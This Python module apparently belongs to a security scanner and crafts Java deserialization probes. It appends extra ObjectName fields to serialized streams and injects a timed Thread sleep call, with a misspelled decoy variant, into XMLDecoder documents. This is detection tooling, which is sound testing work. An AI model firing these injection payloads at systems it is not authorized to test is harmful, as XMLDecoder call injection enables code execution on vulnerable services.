"""Payloads of `deserialization` for Java: an object more in a serialised one, and a call that waits in a document of XMLDecoder.

An object's field that its class does not have is read and dropped (Java Object Serialization, section 5.6.2), whatever it holds.
"""

import re
from typing import Final

_MAGIC: Final = b"\xac\xed\x00\x05"
# A new object of a class that is described here: its name follows with its length before it.
_OBJECT: Final = _MAGIC + b"\x73\x72"
# What the class is told to be, behind its name: eight bytes of a version, and whether it writes its fields and nothing else.
_VERSION, _PLAIN, _WRITES_MORE = 8, 0x02, 0x03
_PRIMITIVE, _REFERRING = b"BCDFIJSZ", b"L["
_TEXT: Final = b"\x74"
# A reference to the second thing in the stream: the first is the class, then comes the type of its first field that refers to one.
_SECOND: Final = b"\x71\x00\x7e\x00\x01"
_NUMBERED: Final = b"\x71\x00\x7e"
_END: Final = b"\x78"
_MARKED: Final = re.compile(rb"(\s*(?:<\?xml[^>]*>\s*)?<java\b[^>]*\bclass=[\"']java\.beans\.XMLDecoder[\"'][^>]*>)")


def java_field(data: bytes, mark: str, *, known: bool) -> bytes:
    """The object with one field more, behind all others: a name of management (`javax.management.ObjectName`), which
    refuses to be made of what names no domain. No list of Java's usual classes holds it. known: it names one. Streams
    of another shape as they are.

    Lists, maps and all else that writes more than its fields have it behind what they wrote: it is read, and skipped
    (section 3.4).
    """
    value = _name_of_management(f"{mark}:k={mark}" if known else f"{mark};k={mark}")
    flags_at = _flags_at(data)
    if data[flags_at : flags_at + 1] == bytes([_WRITES_MORE]) and data.endswith(_END):
        return data[: -len(_END)] + value + _END
    count_at = flags_at + 1 if data[flags_at : flags_at + 1] == bytes([_PLAIN]) else 0
    end, type_ = _end_of_fields(data, count_at) if count_at else (0, b"")
    if not end:
        return data
    count = int.from_bytes(data[count_at : count_at + 2], "big") + 1
    field = b"L" + _text(f"x{mark}") + type_
    return data[:count_at] + count.to_bytes(2, "big") + data[count_at + 2 : end] + field + data[end:] + value


def java_known(mark: str) -> bytes:
    """A stream of one object of a class that every Java has and no list of usual ones holds: a name of management, sound as such."""
    return _MAGIC + _name_of_management(f"{mark}:k={mark}")


def _name_of_management(name: str) -> bytes:
    described = (
        b"\x73\x72" + _text("javax.management.ObjectName") + b"\x0f\x03\xa7\x1b\xeb\x6d\x15\xcf\x03\x00\x00\x78\x70"
    )
    return described + _TEXT + _text(name) + _END


def _text(text: str) -> bytes:
    return len(text).to_bytes(2, "big") + text.encode()


def _flags_at(data: bytes) -> int:
    """Where the object's class says what it writes; the end of streams of another shape."""
    if not data.startswith(_OBJECT) or len(data) < len(_OBJECT) + 2:
        return len(data)
    return len(_OBJECT) + 2 + int.from_bytes(data[len(_OBJECT) : len(_OBJECT) + 2], "big") + _VERSION


def _end_of_fields(data: bytes, count_at: int) -> tuple[int, bytes]:
    """Where the fields of the class end, and how the type of one more is written; 0 where they end nowhere.

    A type that is written out is numbered as all things are, so it may not stand before what is referred to by its number.
    """
    at, first = count_at + 2, True
    for _ in range(int.from_bytes(data[count_at:at], "big")):
        kind = data[at : at + 1]
        at += 3 + int.from_bytes(data[at + 1 : at + 3], "big")
        if kind and kind in _PRIMITIVE:
            continue
        if not kind or kind not in _REFERRING or (first and data[at : at + 1] != _TEXT):
            return 0, b""
        written = data[at : at + 1] == _TEXT
        at += 3 + int.from_bytes(data[at + 1 : at + 3], "big") if written else len(_SECOND)
        first = False
    if at >= len(data) or (first and _NUMBERED in data):
        return 0, b""
    return at, _TEXT + _text("Ljava/lang/Object;") if first else _SECOND


def is_xml_decoder(data: bytes) -> bool:
    """Whether a document is one of XMLDecoder, which carries out what it says."""
    return _MARKED.match(data) is not None


def xml_decoder_waiting(data: bytes, mark: str, units: int, *, decoy: bool) -> bytes:
    """The document with a call before all others that waits. decoy: of no such method."""
    method = "slepe" if decoy else "sleep"
    call = f'<void class="java.lang.Thread" method="{method}" id="x{mark}"><long>{units}000</long></void>'
    begun = _MARKED.match(data)
    return data if begun is None else begun[1] + call.encode() + data[begun.end() :]
